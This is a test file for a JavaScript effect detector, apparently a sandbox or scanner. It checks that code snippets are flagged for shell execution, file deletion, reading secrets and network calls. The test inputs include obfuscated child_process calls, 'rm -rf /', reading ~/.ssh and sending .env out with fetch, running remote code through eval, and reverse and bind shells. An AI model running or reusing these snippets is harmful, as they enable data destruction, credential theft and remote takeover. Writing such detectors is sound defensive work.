import { describe, expect, it } from "vitest";
import { tellEffects } from "./tell.ts";

const tell = (code: string) => tellEffects("node", code, ["a", "b"]);

describe("javascript", () => {
  it.each([
    ["require('child_process').execSync('id')", ["sh id"]],
    ["require('child_'+'process')['ex'+'ec']('id')", ["sh id"]],
    ["const {exec: e} = require('node:child_process'); e(`i${'d'}`)", ["sh id"]],
    ["import { exec as e } from 'child_process'; e('id')", ["sh id"]],
    ["import * as cp from 'child_process'\ncp.exec('id')", ["sh id"]],
    ["process.mainModule.require('child_process').exec('id')", ["sh id"]],
    ["require('child_process').spawn('rm', ['-rf', '/'])", ["exec rm -rf /"]],
    ["require('child_process').spawn('a b', {shell: true})", ["sh a b"]],
    ["const f = require('child_process').exec; f.call(null, 'id')", ["sh id"]],
    ["const run = c => require('child_process').exec(c); run('id')", ["sh id"]],
    ["function run(c) { require('child_process').exec(c) }\nrun('id')", ["sh id"]],
    ["for (const c of ['a', 'b']) require('child_process').exec(c)", ["sh a", "sh b"]],
    ["['a', 'b'].forEach(c => require('child_process').exec(c))", ["sh a", "sh b"]],
    ["(function () { require('child_process').exec('id') })()", ["sh id"]],
    ["class A { go() { require('child_process').exec('id') } }", ["sh id"]],
    ["import('child_process').then(m => m.exec('id'))", ["sh id"]],
    ["eval(\"require('fs').unlinkSync('a')\")", ["delete a"]],
    ["globalThis['ev' + 'al'](\"require('fs').unlinkSync('a')\")", ["delete a"]],
    ["Function('return process')().mainModule.require('child_process').exec('id')", ["sh id"]],
    ["[].constructor.constructor(\"require('child_process').exec('id')\")()", ["sh id"]],
    ["eval(atob('MQ=='))", ["eval unknown"]],
    ["require('child_process').exec(String.fromCharCode(105, 100))", ["sh id"]],
    ["require('child_process').exec('di'.split('').reverse().join(''))", ["sh id"]],
    ["require('fs').rmSync('/', {recursive: true})", ["delete all /"]],
    ["require('fs').promises.unlink('a')", ["delete a"]],
    ["require('fs').writeFileSync('a', 'b')", ["write a: b"]],
    ["require('fs').readFileSync(require('os').homedir() + '/.ssh/x')", ["read ~/.ssh/x"]],
    [
      "fetch('u', {method: 'POST', body: require('fs').readFileSync('.env')})",
      ["read .env", "fetch u @.env"],
    ],
    ["fetch('u').then(r => r.text()).then(eval)", ["fetch u", "eval unknown"]],
    ["fetch('u').then(r => r.text()).then(t => { eval(t) })", ["fetch u", "eval unknown"]],
    ["process.binding('spawn_sync')", ["eval unknown"]],
    ["new Deno.Command('rm', {args: ['-rf', '/']}).spawn()", ["exec rm -rf /"]],
    ["require('child_process').spawn(process.argv[1])", ["exec a"]],
  ])("tells of %s", (code, told) => expect(tell(code)).toEqual(told));

  it.each([
    "console.log(\"require('child_process').exec('id')\")",
    "// require('child_process').exec('id')\n/* eval(x) */ console.log(1)",
    "const m = /a(b)\"'/.exec('ab'); console.log(m[1])",
    "console.log(require('./package.json').version, process.env.HOME)",
    "setTimeout(() => console.log(1), 10)",
    "const run = (c) => require('child_process').exec(c)",
    "const s = require('net').createServer().listen(0, () => s.close())",
  ])("tells of nothing in %s", (code) => expect(tell(code)).toEqual([]));

  it("tells of a shell on a connection", () => {
    const spawn = "require('child_process').spawn('/bin/sh')";
    const pipes = "c.pipe(s.stdin); s.stdout.pipe(c)";
    expect(
      tell(
        `const s = ${spawn}; const c = require('net').connect(4444, '192.0.2.1', () => { ${pipes} })`,
      )[0],
    ).toBe("shell to 192.0.2.1 4444");
    expect(
      tell(`require('net').createServer(c => { const s = ${spawn}; ${pipes} }).listen(4444)`)[0],
    ).toBe("shell for \uFFFC 4444");
  });
});
